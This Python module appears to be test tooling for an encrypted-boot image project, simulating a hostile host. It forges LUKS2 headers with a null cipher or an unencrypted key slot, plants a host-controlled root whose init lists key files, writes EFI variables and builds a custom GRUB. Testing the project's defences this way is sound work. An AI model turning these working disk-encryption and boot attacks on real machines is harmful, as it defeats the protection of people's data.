# SPDX-FileCopyrightText: 2026 the sealedroot.image authors
# SPDX-License-Identifier: GPL-3.0-or-later

"""What a hostile host makes: a root of its own, forged headers, EFI variables, EFI programs. No key is needed."""

from __future__ import annotations

import base64
import hashlib
import json
import pathlib
import shutil
import struct
import subprocess
import tempfile
import typing as t
import uuid

from attack_images import HEADER, Image, partitions
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

FIRMWARE_STORE = pathlib.Path("/usr/share/OVMF/OVMF_VARS_4M.fd")
EFI_GLOBAL = "8be4df61-93ca-11d2-aa0d-00e098032b8c"
SYSTEMD = "8cf2644b-4b0b-428f-9387-6d876050dc67"
# The host's init. What it finds of keys it shows by name.
INIT = """#!/bin/busybox sh
/bin/busybox mkdir -p /proc
/bin/busybox mount -t proc proc /proc
say() { echo "$*" >/dev/console; }
say "HOST-ROOT-RUNS as $(/bin/busybox id -u) on $(/bin/busybox uname -r)"
for file in $(/bin/busybox find / -xdev -name '*.key' -o -name keyfile 2>/dev/null); do say "a key: $file"; done
/bin/busybox sleep 1
/bin/busybox poweroff -f
"""


def run(*argv: t.Any, data: bytes | None = None) -> bytes:
    """Run a tool of the host's."""
    done = subprocess.run(
        [str(word) for word in argv], input=data, capture_output=True, check=False
    )
    assert done.returncode == 0, f"{argv}: {done.stdout!r} {done.stderr!r}"
    return done.stdout


def host_tree(folder: pathlib.Path) -> pathlib.Path:
    """Make the smallest tree that a kernel and systemd's switch-root start."""
    shutil.rmtree(folder, ignore_errors=True)
    for name in ("bin", "sbin", "etc", "usr/lib", "dev", "proc", "sys", "run", "tmp", "root"):
        (folder / name).mkdir(parents=True)
    shutil.copy("/bin/busybox", folder / "bin" / "busybox")
    for name in ("sbin/init", "init"):
        (folder / name).write_text(INIT)
        (folder / name).chmod(0o755)
    for name in ("etc/os-release", "usr/lib/os-release"):
        (folder / name).write_text("ID=host\nPRETTY_NAME=host\n")
    (folder / "etc" / "fstab").touch()
    return folder


def host_root(
    path: pathlib.Path,
    *,
    uuid: str,
    label: str = "",
    mib: int = 32,
    files: t.Mapping[str, t.Any] | None = None,
) -> pathlib.Path:
    """Make a file system with the host's root in it, and *files*: text, or paths to copy."""
    with tempfile.TemporaryDirectory() as folder:
        tree = host_tree(pathlib.Path(folder) / "root")
        for name, content in (files or {}).items():
            (tree / name).parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, pathlib.Path):
                shutil.copy(content, tree / name)
            else:
                (tree / name).write_text(content)
        path.unlink(missing_ok=True)
        run("truncate", "-s", f"{mib}M", path)
        run("mkfs.ext4", "-q", "-U", uuid, *(["-L", label] if label else []), "-d", tree, path)
    return path


def host_initrd(path: pathlib.Path) -> pathlib.Path:
    """Make an initramfs that is the host's root."""
    with tempfile.TemporaryDirectory() as folder:
        tree = host_tree(pathlib.Path(folder) / "root")
        run("mknod", tree / "dev" / "console", "c", "5", "1")
        names = run("sh", "-c", f"cd '{tree}' && find . -print0")
        archive = run("cpio", "--null", "-o", "-H", "newc", "-D", tree, "--quiet", data=names)
    path.write_bytes(archive)
    return path


def boot_files(image: Image, folder: pathlib.Path) -> dict[str, pathlib.Path]:
    """Return kernels under the names that the image's grub.cfg has, with the host's initramfs.

    The names are no secret: a host knows what it installs on other machines.
    """
    initrd = host_initrd(folder / "initrd")
    found: dict[str, pathlib.Path] = {}
    for path in image.kernels:
        found[f"boot/{path.name}"] = path
        found[f"boot/{path.name.replace('vmlinuz', 'initrd.img')}"] = initrd
    return found


# --- LUKS headers ---------------------------------------------------------------------------------------------------


def forge_header(image: Image, folder: pathlib.Path) -> tuple[bytes, int]:
    """Return a header of the image that makes cryptsetup take the payload as it is, and where the payload begins.

    Key slots and digests stay as they are, so the genuine key opens it; nothing ties the data segment to them.
    """
    path = folder / "header"
    with image.raw.open("rb") as disk:
        disk.seek(image.luks.start)
        path.write_bytes(disk.read(HEADER))
    if image.kind.luks == "luks1":
        (sectors,) = struct.unpack_from(">I", path.read_bytes(), 104)
        run("truncate", "-s", str(sectors * 512), path)
        run("cryptsetup", "convert", "--batch-mode", "--type", "luks2", path)
    header = bytearray(path.read_bytes())
    offset = edit_luks2(header, lambda j: j["segments"]["0"].update(encryption="cipher_null-ecb"))
    return bytes(header[:offset]), offset


def edit_luks2(header: bytearray, change: t.Callable[[dict[str, t.Any]], t.Any]) -> int:
    """Change both copies of the metadata of a LUKS2 header, with right checksums; return where the payload begins."""
    offset = 0
    (size,) = struct.unpack_from(">Q", header, 8)
    for at in (0, size):
        copy = bytearray(header[at : at + size])
        area = json.loads(bytes(copy[4096:]).split(b"\0", 1)[0])
        change(area)
        offset = int(area["segments"]["0"]["offset"])
        copy[4096:] = json.dumps(area, separators=(",", ":")).encode().ljust(size - 4096, b"\0")
        copy[448:512] = bytes(64)
        copy[448:480] = hashlib.sha256(bytes(copy)).digest()
        header[at : at + size] = copy
    return offset


def forge_disk(image: Image, disk: pathlib.Path, folder: pathlib.Path) -> None:
    """Put a forged header and the host's root into the volume of a disk."""
    header, offset = forge_header(image, folder)
    root = host_root(folder / "root.ext4", uuid=image.root_uuid)
    write(disk, image.luks.start, header)
    write(disk, image.luks.start + offset, root.read_bytes())


def forge_disk_with_null_slot(image: Image, disk: pathlib.Path, folder: pathlib.Path) -> None:
    """Put a header of the host's own, and its root, into the volume of a disk.

    The key slot is not encrypted: whatever the key is, what lies there is the volume key.
    """
    path, key = folder / "null-slot", folder / "any.key"
    key.write_text("any")
    size = image.payload - image.luks.start
    run("truncate", "-s", str(HEADER + (1 << 20)), path)
    argv = [
        "cryptsetup",
        "luksFormat",
        "--batch-mode",
        "--type",
        "luks2",
        "--uuid",
        image.luks_uuid,
    ]
    argv += ["--key-file", str(key), "--pbkdf", "pbkdf2", "--pbkdf-force-iterations", "1000"]
    run(*argv, "--luks2-keyslots-size", "256k", "--offset", str(max(size, 1 << 20) // 512), path)
    header = bytearray(read(path, 0, size))

    def reveal(area: dict[str, t.Any]) -> None:
        slot = area["keyslots"]["0"]
        kdf, place = slot["kdf"], slot["area"]
        salt = base64.b64decode(kdf["salt"])
        secret = hashlib.pbkdf2_hmac(
            kdf["hash"], b"any", salt, kdf["iterations"], place["key_size"]
        )
        begin, length = int(place["offset"]), slot["key_size"] * slot["af"]["stripes"]
        for number in range(length // 512):
            at = begin + number * 512
            cipher = Cipher(algorithms.AES(secret), modes.XTS(number.to_bytes(16, "little")))
            header[at : at + 512] = cipher.decryptor().update(read(path, at, 512))
        place["encryption"] = area["segments"]["0"]["encryption"] = "cipher_null-ecb"

    offset = edit_luks2(header, reveal)
    root = host_root(folder / "root.ext4", uuid=image.root_uuid)
    write(disk, image.luks.start, bytes(header))
    write(disk, image.luks.start + offset, root.read_bytes())


def own_volume(image: Image, path: pathlib.Path) -> pathlib.Path:
    """Make a LUKS volume of the host's with the UUID of the image's."""
    key = path.with_suffix(".key")
    key.write_text("the host's")
    run("truncate", "-s", "64M", path)
    argv = [
        "cryptsetup",
        "luksFormat",
        "--batch-mode",
        "--type",
        image.kind.luks,
        "--hash",
        "sha256",
    ]
    argv += ["--uuid", image.luks_uuid, "--key-file", str(key), "--pbkdf", "pbkdf2"]
    run(*argv, "--pbkdf-force-iterations", "1000", path)
    return path


def change_boot_key(image: Image, header: bytes, new: str, folder: pathlib.Path) -> bytes:
    """Return a header with another key in the slot of the boot key, as a rotation leaves it."""
    path, file = folder / "header", folder / "new.key"
    path.write_bytes(header)
    file.touch(0o600)
    file.write_text(new)
    cheap = ["--pbkdf", "pbkdf2", "--pbkdf-force-iterations", "1000"]
    keys = ["--key-file", image.directory / "recovery.key", path]
    run("cryptsetup", "luksKillSlot", "--batch-mode", *keys, "0")
    run("cryptsetup", "luksAddKey", "--batch-mode", "--key-slot", "0", *cheap, *keys, file)
    return path.read_bytes()


def write(disk: pathlib.Path, position: int, data: bytes) -> None:
    """Write sectors; a guest that runs reads them from then on."""
    with disk.open("r+b") as file:
        file.seek(position)
        file.write(data)


def read(disk: pathlib.Path, position: int, size: int) -> bytes:
    """Read sectors."""
    with disk.open("rb") as file:
        file.seek(position)
        return file.read(size)


def add_partition(disk: pathlib.Path, type_: str, content: pathlib.Path) -> str:
    """Append a partition to a disk, with what a file has in it; return its UUID. *type_* is sgdisk's code."""
    size = content.stat().st_size
    run("truncate", "-s", f"+{size + (2 << 20)}", disk)
    run(
        "sgdisk",
        "--move-second-header",
        "--new",
        f"0:0:+{size // 512}",
        "--typecode",
        f"0:{type_}",
        disk,
    )
    added = partitions(disk)[-1]
    write(disk, added.start, content.read_bytes())
    return added.uuid


# --- firmware -------------------------------------------------------------------------------------------------------


def store_of_variables(
    path: pathlib.Path, variables: t.Mapping[tuple[str, str], bytes]
) -> pathlib.Path:
    """Make a store of EFI variables, by name and GUID of their vendor, that survive a reset.

    The format is EDK II's (MdeModulePkg/Include/Guid/VariableFormat.h), with authenticated variables.
    """
    store = bytearray(FIRMWARE_STORE.read_bytes())
    (length,) = struct.unpack_from("<H", store, 0x30)
    position = length + 28
    for (name, vendor), data in variables.items():
        while store[position : position + 2] == b"\xaa\x55":
            name_size, data_size = struct.unpack_from("<II", store, position + 36)
            position += 60 + name_size + data_size
            position += -position % 4
        text = name.encode("utf-16-le") + b"\0\0"
        # Non-volatile, for boot services and at run time; added, and not deleted.
        head = struct.pack("<HBBIQ16sI", 0x55AA, 0x3F, 0, 7, 0, bytes(16), 0)
        head += struct.pack("<II", len(text), len(data)) + uuid.UUID(vendor).bytes_le
        record = head + text + data
        store[position : position + len(record)] = record
    path.write_bytes(store)
    return path


def grub_core(path: pathlib.Path, script: str, *modules: str) -> pathlib.Path:
    """Make a GRUB of the host's own, with the builder's modules, that runs a script."""
    config = path.with_suffix(".cfg")
    config.write_text(script)
    names = (
        "part_gpt",
        "fat",
        "ext2",
        "normal",
        "configfile",
        "echo",
        "read",
        "test",
        "cat",
        "ls",
        "linux",
    )
    run(
        "grub-mkimage",
        "-O",
        "x86_64-efi",
        "-o",
        path,
        "-p",
        "/EFI/BOOT",
        "-c",
        config,
        *names,
        *modules,
    )
    return path


def esp_write(image: Image, disk: pathlib.Path, name: str, source: pathlib.Path) -> None:
    """Write a file to the EFI system partition of a disk, which nothing protects."""
    esp = f"{disk}@@{image.partitions[0].start}"
    folders = name.split("/")[:-1]
    for depth in range(1, len(folders) + 1):
        argv = ["mmd", "-D", "s", "-i", esp, "::/" + "/".join(folders[:depth])]
        # It may be there.
        subprocess.run(argv, capture_output=True, check=False, env={"MTOOLS_SKIP_CHECK": "1"})
    run("env", "MTOOLS_SKIP_CHECK=1", "mcopy", "-o", "-i", esp, source, f"::/{name}")
